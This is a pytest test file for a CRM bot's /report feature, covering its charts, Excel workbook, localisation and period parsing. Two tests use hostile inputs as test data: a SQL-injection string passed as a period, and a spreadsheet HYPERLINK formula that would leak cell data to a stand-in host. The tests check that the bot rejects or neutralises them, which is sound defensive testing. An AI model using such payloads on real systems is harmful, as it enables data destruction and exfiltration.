"""/report week|month: charts as PNG, an XLSX workbook, visibility, and `crm-bot report`."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import warnings
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from matplotlib import font_manager, rc_context
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy.engine import Engine
from sqlmodel import Session, func, select

from crm_store.analytics import pipeline_stats, report_data, segments, service_stats, team_activity
from crm_store.analytics.digest_figures import FIGURES, daily_figures
from crm_store.analytics.report_data import RepActivity, build_report, period_of
from crm_store.db import unit_of_work
from crm_store.models import (
    AuditLog,
    Contact,
    Deal,
    DealStatus,
    Feedback,
    FeedbackKind,
    Interaction,
    InteractionKind,
    Member,
    Order,
    Role,
    StageChange,
)
from handlers.i18n import Translator
from handlers.reminders.views import figure_label
from handlers.reports.charts import CJK_FAMILY, activity_chart, cjk_font_path
from handlers.reports.commands import parse_period
from handlers.types import Reply
from tests.builders import make_admin, make_contact, make_member
from tests.handlers.conftest import Chat

TZ = ZoneInfo("Asia/Shanghai")
PNG, ZIP = b"\x89PNG\r\n\x1a\n", b"PK\x03\x04"
MANAGER_ID, ZHANG_ID, LI_ID, OUYANG_ID = 2001, 2002, 2003, 2004
ROOT = Path(__file__).resolve().parents[3]


@dataclass
class Team:
    """Who is who in the hand-checked data set."""

    admin: Member
    manager: Member
    zhang: Member
    li: Member
    ouyang: Member
    start: datetime  # of the current local month
    inside: datetime  # a moment inside it, before now


def _add(session: Session, *rows: Any) -> list[Any]:
    for row in rows:
        session.add(row)
    session.flush()
    return list(rows)


def _contact(session: Session, owner: Member, name: str, at: datetime) -> Contact:
    return _add(session, Contact(team_id=owner.team_id, owner_id=owner.id or 0, name=name,
                                 created_at=at))[0]


def _deal(session: Session, owner: Member, contact: Contact, amount: int, moves: list[tuple],
          status: DealStatus = DealStatus.OPEN, created: datetime | None = None) -> Deal:
    """A deal with its stage history: moves are (from, to, at)."""
    deal = _add(session, Deal(
        team_id=owner.team_id, owner_id=owner.id or 0, contact_id=contact.id or 0, title="deal",
        amount_minor=amount, stage=moves[-1][1], status=status, created_at=created or moves[0][2],
        closed_at=moves[-1][2] if status != DealStatus.OPEN else None))[0]
    _add(session, *(StageChange(team_id=owner.team_id, deal_id=deal.id or 0, from_stage=a,
                                to_stage=b, member_id=owner.id, at=at) for a, b, at in moves))
    return deal


def _touch(session: Session, member: Member, contact: Contact, kind: InteractionKind,
           at: datetime) -> None:
    _add(session, Interaction(team_id=member.team_id, contact_id=contact.id or 0,
                              member_id=member.id or 0, kind=kind, occurred_at=at))


def _order(session: Session, owner: Member, contact: Contact, amount: int, at: datetime) -> None:
    _add(session, Order(team_id=owner.team_id, owner_id=owner.id or 0, contact_id=contact.id or 0,
                        amount_minor=amount, ordered_at=at))


def seed_team(engine: Engine, now: datetime) -> Team:
    """Admin; manager 王强 over reps 张伟 and 李娜; rep 欧阳娜娜 outside the manager's team.

    Inside the current month: 张伟 2 calls + 1 visit, deal A (50,000) lead → qualified →
    proposal and deal B (20,000) new in lead; 李娜 a meeting and an email, deal C (30,000,
    opened last month) → negotiation → won; 欧阳娜娜 3 calls and deal D (99,000, lead).
    Customers by last order: 10 days (new), 200 days (at risk), none (prospect), 500 days
    (lost), 30 days after one 300 days ago (active). A complaint open; CSAT 5 and 3; NPS 10, 5.
    """
    admin = make_admin(engine)
    manager = make_member(engine, by=admin, role=Role.MANAGER, name="王强",
                          telegram_user_id=MANAGER_ID)
    zhang = make_member(engine, by=manager, name="张伟", telegram_user_id=ZHANG_ID)
    li = make_member(engine, by=manager, name="李娜", telegram_user_id=LI_ID, language="zh-CN")
    ouyang = make_member(engine, by=admin, name="欧阳娜娜", telegram_user_id=OUYANG_ID)
    start = period_of("month", now.astimezone(TZ).date(), "Asia/Shanghai", now).start_utc
    inside = start + (now - start) / 2
    before, day = start - timedelta(days=3), timedelta(days=1)
    with unit_of_work(engine) as s:
        c1, c2, c3 = (_contact(s, zhang, n, before) for n in ("华东机械 刘总", "Acme Ltd", "Bo"))
        c4, c5 = _contact(s, li, "李四", before), _contact(s, li, "Emma Davis", before)
        c6 = _contact(s, ouyang, "欧阳客户", before)
        for kind in (InteractionKind.CALL, InteractionKind.CALL, InteractionKind.VISIT):
            _touch(s, zhang, c1, kind, inside)
        _touch(s, zhang, c1, InteractionKind.CALL, before)  # last month: not counted
        _touch(s, li, c4, InteractionKind.MEETING, inside)
        _touch(s, li, c4, InteractionKind.EMAIL, inside)
        for _ in range(3):
            _touch(s, ouyang, c6, InteractionKind.CALL, inside)
        _deal(s, zhang, c1, 5_000_000, [(None, "lead", inside), ("lead", "qualified", inside),
                                        ("qualified", "proposal", inside)])
        _deal(s, zhang, c3, 2_000_000, [(None, "lead", inside)])
        _deal(s, li, c4, 3_000_000, [(None, "lead", before), ("lead", "negotiation", inside),
                                     ("negotiation", "won", inside)], status=DealStatus.WON)
        _deal(s, ouyang, c6, 9_900_000, [(None, "lead", inside)])
        _order(s, zhang, c1, 100_000, now - 10 * day)
        _order(s, zhang, c2, 100_000, now - 400 * day)
        _order(s, zhang, c2, 250_000, now - 200 * day)
        _order(s, li, c4, 100_000, now - 500 * day)
        _order(s, li, c5, 100_000, now - 300 * day)
        _order(s, li, c5, 100_000, now - 30 * day)
        _order(s, ouyang, c6, 100_000, now - 5 * day)
        _add(s, Feedback(team_id=zhang.team_id, contact_id=c1.id or 0, owner_id=zhang.id or 0,
                         member_id=zhang.id or 0, kind=FeedbackKind.COMPLAINT, created_at=inside))
        for csat, nps in ((5, 10), (3, 5)):
            _add(s, Feedback(team_id=li.team_id, contact_id=c5.id or 0, owner_id=li.id or 0,
                             member_id=li.id or 0, kind=FeedbackKind.RATING, csat=csat, nps=nps,
                             created_at=inside))
    return Team(admin, manager, zhang, li, ouyang, start, inside)


def month_report(engine: Engine, member: Member, now: datetime) -> report_data.ReportData:
    period = period_of("month", now.astimezone(TZ).date(), "Asia/Shanghai", now)
    with Session(engine) as s:
        actor = s.get(Member, member.id)
        assert actor is not None
        return build_report(s, actor=actor, period=period, now=now)


def sheet_rows(book: Any, name: str) -> list[tuple]:
    return [tuple(row) for row in book[name].iter_rows(values_only=True)]


def image(data: bytes) -> Image.Image:
    assert data.startswith(PNG)
    return Image.open(io.BytesIO(data))


def photos_and_documents(replies: list[Reply]) -> tuple[list[Reply], list[Reply]]:
    return ([r for r in replies if r.photo is not None],
            [r for r in replies if r.document is not None])


# ------------------------------------------------------------------------- figures
async def test_summary_is_the_digest_figures_over_the_period(engine: Engine) -> None:
    now = datetime.now(UTC)
    team = seed_team(engine, now)
    data = month_report(engine, team.manager, now)
    with Session(engine) as s:
        manager = s.get(Member, team.manager.id)
        assert manager is not None
        digest = daily_figures(s, actor=manager, start_utc=team.start, end_utc=now, now=now)
    assert data.summary == digest
    assert (digest["calls"], digest["visits"], digest["meetings"], digest["new_deals"],
            digest["stage_moves"], digest["deals_won"], digest["won_minor"]) == (
        2, 1, 1, 2, 4, 1, 3_000_000)


async def test_report_activity_is_what_team_activity_shows(engine: Engine) -> None:
    now = datetime.now(UTC)
    team = seed_team(engine, now)
    data = month_report(engine, team.manager, now)
    with Session(engine) as s:
        manager = s.get(Member, team.manager.id)
        rows = team_activity.by_rep(s, actor=manager, start_utc=team.start, end_utc=now,
                                        now=now)
    assert [(r.name, r.by_kind["call"], r.by_kind["visit"]) for r in data.activity] == [
        (r.name, r.calls, r.visits) for r in rows]


async def test_report_figures_are_what_the_area_functions_show(engine: Engine) -> None:
    now = datetime.now(UTC)
    team = seed_team(engine, now)
    data = month_report(engine, team.manager, now)
    with Session(engine) as s:
        manager = s.get(Member, team.manager.id)
        stages = pipeline_stats.pipeline_by_stage(s, actor=manager, now=now)
        funnel = pipeline_stats.funnel(s, actor=manager, now=now, since=team.start, until=now)
        summary = segments.segment_summary(s, actor=manager, now=now)
        service = service_stats.service_summary(s, actor=manager, now=now, days=len(
            range((now - team.start).days + 1)))
    assert [(r.stage, r.count, r.amount_minor) for r in data.pipeline] == [
        (r.stage, r.count, r.amount_minor) for r in stages]
    assert [(r.stage, r.count, r.moved_on) for r in data.funnel if r.stage != "lost"] == [
        (r.stage, r.reached, r.moved_on) for r in funnel.stages]
    assert [(r.key, r.customers) for r in data.segments if r.group == "rfm"][:-1] == [
        (g.key, g.customers) for g in summary.rfm.segments]
    assert dict(data.service)["open_complaints"] == service.open_complaints == 1
    assert dict(data.service)["csat_percent"] == service.csat_percent == 50.0


# -------------------------------------------------------------------------- charts
async def test_every_chart_is_a_1000_by_600_png(engine: Engine) -> None:
    from handlers.reports.charts import report_charts

    now = datetime.now(UTC)
    team = seed_team(engine, now)
    charts = report_charts(month_report(engine, team.admin, now), Translator("zh-CN"))
    assert [key for key, _ in charts] == ["reports.caption_funnel", "reports.caption_pipeline",
                                          "reports.caption_activity", "reports.caption_segments"]
    for _, png in charts:
        picture = image(png)
        assert (picture.format, picture.size) == ("PNG", (1000, 600))


def test_the_cjk_font_comes_from_mplfonts_and_is_the_first_choice() -> None:
    path = cjk_font_path()
    assert path is not None and "mplfonts" in path.parts
    found = font_manager.findfont(font_manager.FontProperties(family=[CJK_FAMILY]),
                                  fallback_to_default=False)
    assert Path(found) == path
    assert font_manager.findfont(font_manager.FontProperties(family=["sans-serif"])) == str(path)


def _glyph_warnings(draw: Any) -> list[str]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        draw()
    return [str(w.message) for w in caught if "missing from font" in str(w.message)]


def test_chinese_rep_names_draw_without_missing_glyphs() -> None:
    reps = [RepActivity(1, "张伟", {"call": 2, "visit": 1}), RepActivity(2, "李娜", {"call": 1}),
            RepActivity(3, "欧阳娜娜", {"meeting": 4}), RepActivity(4, "Emma Davis", {"call": 1})]

    def draw() -> None:
        image(activity_chart(reps, Translator("zh-CN"), "2026-11"))

    assert _glyph_warnings(draw) == []
    with rc_context({"font.sans-serif": ["DejaVu Sans"]}):  # the check does see boxes
        assert any("张" in w or "Glyph" in w for w in _glyph_warnings(draw))


def test_charts_drawn_at_the_same_time_do_not_mix() -> None:
    from concurrent.futures import ThreadPoolExecutor

    teams = [[RepActivity(1, "张伟", {"call": n})] for n in range(1, 7)]
    alone = [activity_chart(reps, Translator("en"), "2026-11") for reps in teams]
    with ThreadPoolExecutor(max_workers=6) as pool:
        together = list(pool.map(lambda reps: activity_chart(reps, Translator("en"), "2026-11"),
                                 teams))
    assert together == alone and len(set(alone)) == 6


async def test_a_period_without_data_still_gets_every_chart(chat: Chat) -> None:
    make_admin(chat.engine)
    photos, documents = photos_and_documents(await chat.send("/report week"))
    assert len(photos) == 4 and len(documents) == 1
    assert all(image(p.photo or b"").size == (1000, 600) for p in photos)


# ------------------------------------------------------------------------ /report
def counts(engine: Engine) -> tuple[int, ...]:
    with Session(engine) as s:
        return tuple(s.exec(select(func.count()).select_from(model)).one()
                     for model in (AuditLog, Contact, Deal, Interaction, Order))


def workbook_of(replies: list[Reply]) -> Any:
    photos, documents = photos_and_documents(replies)
    assert len(photos) == 4 and len(documents) == 1, [r.text for r in replies]
    assert (documents[0].document or b"").startswith(ZIP)
    return load_workbook(io.BytesIO(documents[0].document or b""))


async def test_manager_gets_four_charts_and_the_workbook(engine: Engine) -> None:
    now = datetime.now(UTC)
    seed_team(engine, now)
    before = counts(engine)
    replies = await Chat(engine, user_id=MANAGER_ID).send("/report month")
    photos, documents = photos_and_documents(replies)
    assert len(replies) == 5 and len(photos) == 4
    assert all((p.photo or b"").startswith(PNG) for p in photos)
    assert [p.filename for p in photos] == [
        f"crm-report-{now.astimezone(TZ):%Y-%m}-{i}-{name}.png"
        for i, name in enumerate(("funnel", "pipeline", "activity", "segments"), start=1)]
    assert documents[0].filename == f"crm-report-{now.astimezone(TZ):%Y-%m}.xlsx"
    assert "Funnel" in photos[0].text and "王强 and their team" in documents[0].text
    assert counts(engine) == before  # a report writes nothing, not even an audit row


async def test_workbook_has_a_sheet_per_topic_with_hand_checked_figures(
    engine: Engine
) -> None:
    now = datetime.now(UTC)
    seed_team(engine, now)
    book = workbook_of(await Chat(engine, user_id=MANAGER_ID).send("/report month"))
    assert book.sheetnames == ["Summary", "Pipeline", "Funnel", "Activity", "Segments",
                               "Service", "At risk"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2" and all(c.font.b for c in sheet[1])
    summary = {row[0]: row[1] for row in sheet_rows(book, "Summary")}
    assert (summary["Calls"], summary["Visits"], summary["Meetings"], summary["New deals"],
            summary["Stage moves"], summary["Deals won"], summary["Won"]) == (
        2, 1, 1, 2, 4, 1, 30_000)
    won_cell = next(r[1] for r in book["Summary"].iter_rows() if r[0].value == "Won")
    assert won_cell.number_format == '"¥"#,##0.00'
    # Open deals now: B 20,000 in lead (10%), A 50,000 in proposal (50%).
    assert sheet_rows(book, "Pipeline")[1:] == [
        ("Lead", 1, 20_000, 2_000), ("Qualified", 0, 0, 0), ("Proposal", 1, 50_000, 25_000),
        ("Negotiation", 0, 0, 0)]
    # Reached in the month: A and B lead; A qualified and proposal; C (entered last month)
    # skips from lead to negotiation, passing qualified and proposal, then wins.
    assert sheet_rows(book, "Funnel")[1:7] == [
        ("Lead", 2, 0.5), ("Qualified", 2, 1), ("Proposal", 2, 0.5), ("Negotiation", 1, 1),
        ("Won", 1, None), ("Lost", 0, None)]
    funnel = {row[0]: row[1] for row in sheet_rows(book, "Funnel")[8:]}
    assert (funnel["Deals won"], funnel["Deals lost"], funnel["Average won deal"],
            funnel["Open deals"], funnel["Win rate (won ÷ closed)"]) == (1, 0, 30_000, 2, 1)
    activity = {row[0]: row[1:] for row in sheet_rows(book, "Activity")}
    assert activity["Rep"][:5] == ("Calls", "Visits", "Meetings", "Calls + visits + meetings",
                                   "New contacts")
    # Calls, visits, meetings, their sum, new contacts, new deals, stage moves, won, won amount
    assert activity["张伟"][:9] == (2, 1, 0, 3, 0, 2, 2, 0, 0)
    assert activity["李娜"][:9] == (0, 0, 1, 1, 0, 0, 2, 1, 30_000)
    assert "欧阳娜娜" not in activity
    stages = [row[1:3] for row in sheet_rows(book, "Segments")[1:]
              if row[0] == "Lifecycle stage"]
    assert stages == [("Prospect", 1), ("New", 1), ("Active", 1), ("At risk", 1), ("Lost", 1)]
    figures = {row[0]: row[2] for row in sheet_rows(book, "Segments") if row[0]}
    # Buyers in 365 days: Acme 2,500 (200 days ago), Emma 2,000, 刘总 1,000; 李四 and Bo none.
    assert (figures["Customers"], figures["Buyers in the window"],
            figures["RFM segment"]) == (5, 3, 2)  # the last RFM row: no purchases
    assert figures["Revenue of the top 20% of customers"] == 2_500  # Acme alone
    service = {row[0]: row[1] for row in sheet_rows(book, "Service")}
    assert (service["Open complaints"], service["CSAT % (share of 4–5)"], service["NPS"],
            service["SLA breaches"]) == (1, 0.5, 0, 1)
    assert [row[:2] for row in sheet_rows(book, "At risk")[1:]] == [("Acme Ltd", "张伟"),
                                                                  ("李四", "李娜")]
    widths = book["At risk"].column_dimensions
    assert widths["C"].width >= len("Days since last order")


async def test_summary_sheet_uses_the_digest_names_for_the_same_figures(engine: Engine) -> None:
    now = datetime.now(UTC)
    seed_team(engine, now)
    book = workbook_of(await Chat(engine, user_id=LI_ID).send("/report month"))
    names = [row[0] for row in sheet_rows(book, "概要")[5:]]
    assert names == [figure_label(name, Translator("zh-CN")) for name in FIGURES]


async def test_rep_report_holds_only_their_own_figures(engine: Engine) -> None:
    now = datetime.now(UTC)
    seed_team(engine, now)
    replies = await Chat(engine, user_id=ZHANG_ID).send("/report month")
    book = workbook_of(replies)
    assert "张伟 (own figures)" in replies[-1].text
    assert [row[0] for row in sheet_rows(book, "Activity")[1:]] == ["张伟"]
    summary = {row[0]: row[1] for row in sheet_rows(book, "Summary")}
    assert (summary["Calls"], summary["Meetings"], summary["Deals won"]) == (2, 0, 0)
    pipeline = {row[0]: row[1:3] for row in sheet_rows(book, "Pipeline")[1:]}
    assert pipeline["Lead"] == (1, 20_000) and pipeline["Proposal"] == (1, 50_000)
    assert [row[0] for row in sheet_rows(book, "At risk")[1:]] == ["Acme Ltd"]


async def test_chinese_member_gets_chinese_captions_sheets_and_last_month(
    engine: Engine
) -> None:
    now = datetime.now(UTC)
    seed_team(engine, now)
    replies = await Chat(engine, user_id=LI_ID, language_code="zh-hans").send("/report 上月")
    book = workbook_of(replies)
    last = (now.astimezone(TZ).date().replace(day=1) - timedelta(days=1)).strftime("%Y-%m")
    assert replies[-1].filename == f"crm-report-{last}.xlsx"
    assert "销售漏斗" in replies[0].text and "李娜（本人数据）" in replies[-1].text
    assert book.sheetnames[:3] == ["概要", "在途商机", "漏斗"]
    assert sheet_rows(book, "概要")[0] == ("指标", "数值")


@pytest.mark.parametrize("args", [
    "yearly", "month week", "2026-13", "week 2026-W60", "month 1999-01", "month last 2026-10",
    "<b>month</b>", "'; DROP TABLE contact; --", "x" * 3000, "month 2026-10 extra"])
async def test_bad_period_gets_the_usage_and_changes_nothing(chat: Chat, args: str) -> None:
    make_admin(chat.engine)
    before = counts(chat.engine)
    replies = await chat.send(f"/report {args}")
    assert len(replies) == 1 and replies[0].photo is None and replies[0].document is None
    assert "Usage: <code>/report week</code>" in replies[0].text
    assert counts(chat.engine) == before


async def test_a_5000_character_request_is_refused_as_too_long(chat: Chat) -> None:
    make_admin(chat.engine)
    replies = await chat.send("/report " + "month " * 834)
    assert len(replies) == 1 and replies[0].document is None
    assert "4000" in replies[0].text


async def test_a_period_that_has_not_started_is_refused(chat: Chat) -> None:
    make_admin(chat.engine)
    await chat.send("/report month 2099-01")
    assert "2099-01 has not started yet" in chat.text() and chat.last[0].document is None


NOW = datetime(2026, 11, 18, 4, 0, tzinfo=UTC)  # Wednesday 18 Nov 2026, 12:00 in Shanghai


@pytest.mark.parametrize(("text", "kind", "label", "first_day"), [
    ("", "month", "2026-11", "2026-11-01"),
    ("month", "month", "2026-11", "2026-11-01"),
    ("week", "week", "2026-W47", "2026-11-16"),
    ("周", "week", "2026-W47", "2026-11-16"),
    ("last week", "week", "2026-W46", "2026-11-09"),
    ("上月", "month", "2026-10", "2026-10-01"),
    ("month last", "month", "2026-10", "2026-10-01"),
    ("2026-02", "month", "2026-02", "2026-02-01"),
    ("week 2026-W01", "week", "2026-W01", "2025-12-29"),
    ("MONTH 2025-12", "month", "2025-12", "2025-12-01"),
])
def test_periods_are_read_in_the_member_time_zone(text: str, kind: str, label: str,
                                                  first_day: str) -> None:
    period = parse_period(text, now=NOW, tz=TZ)
    assert period is not None
    assert (period.kind, period.label) == (kind, label)
    assert period.start_utc.astimezone(TZ).isoformat() == f"{first_day}T00:00:00+08:00"
    assert period.end_utc <= NOW


# --------------------------------------------------------------- console and command line
async def test_console_saves_the_report_files_and_prints_their_paths(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    from bot.console import Console
    from tests.handlers.conftest import SETTINGS

    make_admin(sqlite_engine)
    out = io.StringIO()
    console = Console(engine=sqlite_engine, settings=SETTINGS, user_id=1001, language_code="en",
                      out=out, files_dir=tmp_path / "reports")
    await console.say("/report month")
    saved = sorted((tmp_path / "reports").iterdir())
    assert len(saved) == 5 and all(str(path) in out.getvalue() for path in saved)
    assert saved[-1].suffix == ".xlsx" and saved[0].read_bytes().startswith(PNG)


@pytest.mark.slow
def test_crm_bot_report_writes_the_same_files(sqlite_engine: Engine, tmp_path: Path) -> None:
    now = datetime.now(UTC)
    seed_team(sqlite_engine, now)
    database = sqlite_engine.url.database
    env = {k: v for k, v in os.environ.items() if not k.startswith("TELEGRAM_")}
    env |= {"DATABASE_URL": f"sqlite:///{database}", "PYTHONPATH": str(ROOT)}

    def crm_bot(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "bot", "report", *args], cwd=tmp_path,
                              env=env, capture_output=True, text=True, timeout=120)

    done = crm_bot("--period", "month", "--as", str(MANAGER_ID), "--out", "out")
    assert done.returncode == 0, done.stderr
    paths = [tmp_path / line for line in done.stdout.split()]
    label = f"{now.astimezone(TZ):%Y-%m}"
    assert [p.name for p in paths][-1] == f"crm-report-{label}.xlsx" and len(paths) == 5
    assert all(image(p.read_bytes()).size == (1000, 600) for p in paths[:4])
    book = load_workbook(paths[-1])
    assert {row[0]: row[1] for row in sheet_rows(book, "Summary")}["Calls"] == 2
    refused = crm_bot("--period", "fortnight", "--as", str(MANAGER_ID))
    assert refused.returncode == 2 and "Usage: /report week" in refused.stderr
    assert crm_bot("--as", "999").returncode == 2


async def test_names_that_look_like_formulas_are_plain_text_in_the_workbook(
    engine: Engine
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    admin = make_admin(engine)
    rep = make_member(engine, by=admin, role=Role.REP, name=evil, telegram_user_id=5151)
    make_contact(engine, owner=rep, name="张伟")
    await Chat(engine, user_id=5151).send("/log 张伟 call 报价")
    replies = await Chat(engine).send("/report week")
    documents = [r for r in replies if (r.filename or "").endswith(".xlsx")]
    book = load_workbook(io.BytesIO(documents[0].document or b""))
    formulas = [(sheet.title, cell.coordinate) for sheet in book.worksheets
                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    assert "'" + evil in [row[0] for row in sheet_rows(book, "Activity")[1:]]
